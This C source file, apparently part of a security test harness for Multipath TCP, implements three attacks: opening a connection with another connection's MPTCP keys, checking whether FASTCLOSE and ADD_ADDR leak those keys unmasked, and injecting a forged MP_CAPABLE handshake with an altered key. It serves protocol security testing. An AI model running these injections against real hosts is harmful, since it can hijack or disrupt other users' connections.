// SPDX-License-Identifier: GPL-2.0-only
/*
 * A connection of the attacker's own, to which they give the MPTCP keys of another one. With
 * SYN cookies the server takes its own key from the ACK too. What it then sends on this
 * connection is masked as on the other one.
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

uint64_t told_fastclose, told_add_addr;
const char *told_as = "none";

static struct connection named;
static struct attempt opened;

void note_fastclose(const uint8_t *option, uint64_t key)
{
	told_fastclose = get64(option + 4);
	told_as = told_fastclose == key ? "plain" :
		  told_fastclose	? "masked" :
					  "zero";
}

static bool take_answer(void)
{
	int64_t until = now_ms() + patience_ms;
	const uint8_t *capable;
	struct segment segment;
	struct frame frame;

	while (next_segment(&opened, until, &frame, &segment)) {
		capable = find_mptcp(&segment, MP_CAPABLE);
		if (!segment.tcp->syn || !capable)
			continue;
		if (arg_is("as", "client", "server"))
			named.keys[SERVER] = get64(capable + 4);
		opened.seq++;
		opened.peer_seq = segment.seq + 1;
		return true;
	}
	return false;
}

/*
 * As an initiator with the key of the other connection's server, who says that the
 * responder has that of its client. Or, as=client, with the key of the client, and the
 * responder has its own. to_port=N of the server's, or with=client of a listener there.
 */
bool cmd_open_named(void)
{
	const struct connection *target = arg_connection("conn");
	struct plan syn = { .flags = TH_SYN, .options_len = CAPABLE_SYN_LEN };
	struct plan ack = { .flags = TH_ACK, .options_len = CAPABLE_ACK_LEN };
	bool answered;

	if (!target)
		return false;
	start_attempt(&opened, target, target, 0);
	opened.to.port = htons((uint16_t)arg_number("to_port", "0"));
	named.keys[CLIENT] =
		target->keys[arg_is("as", "client", "server") ? CLIENT : SERVER];
	named.keys[SERVER] = target->keys[CLIENT];

	put_capable(syn.options, CAPABLE_SYN_LEN);
	send_attempt(&opened, &syn);
	answered = take_answer();
	printf(" syn=%s", answers[answered ? ANSWERED : SILENT]);
	if (!answered)
		return true;
	put64(put64(put_capable(ack.options, CAPABLE_ACK_LEN),
		    named.keys[CLIENT]),
	      named.keys[SERVER]);
	send_attempt(&opened, &ack);
	return true;
}

/* Some bytes on it, and then ms=N for the server to end it with FASTCLOSE */
bool cmd_hear_named(void)
{
	int64_t until = now_ms() + arg_number("ms", "1000");
	struct segment segment;
	const uint8_t *option;
	struct frame frame;
	bool told = false;

	printf(" data=%s", answers[send_data(&opened, &named, 100, 0)]);
	fflush(stdout);
	while (!told && next_segment(&opened, until, &frame, &segment)) {
		option = find_mptcp(&segment, MP_ADD_ADDR);
		if (option && option[1] == ADD_ADDR_LEN) {
			told_add_addr = add_addr_mask(option, &named, SERVER);
			printf(" add_addr=%s",
			       told_add_addr ? "masked" : "plain");
		}
		option = find_mptcp(&segment, MP_FASTCLOSE);
		if (!option)
			continue;
		note_fastclose(option, named.keys[CLIENT]);
		told = true;
	}
	printf(" fastclose=%s", told ? told_as : "none");
	return true;
}

/*
 * Of the client's next connection, before the ACK that ends the first handshake: the same with
 * another key of the server. With ack=other it acknowledges something else.
 */
bool cmd_misname(void)
{
	const struct link *link = &links[arg_number("path", "1") - 1][SERVER];
	int64_t until = now_ms() + 20 * patience_ms;
	struct segment segment;
	struct frame frame, wrong;
	uint8_t *capable;

	hold_firsts = true;
	do {
		if (!pump(until, false, &frame))
			return false;
		wrong = frame;
		capable = parse_segment(&wrong, &segment) ?
				  find_mptcp(&segment, MP_CAPABLE) :
				  NULL;
	} while (!capable);
	put64(capable + 12, get64(capable + 12) + 1);
	if (arg_is("ack", "other", "same"))
		segment.tcp->ack_seq = htonl(segment.ack + 1);
	set_checksums(&segment);
	send_frame(link, &wrong);
	send_frame(link, &frame);
	printf(" sent=2");
	return true;
}
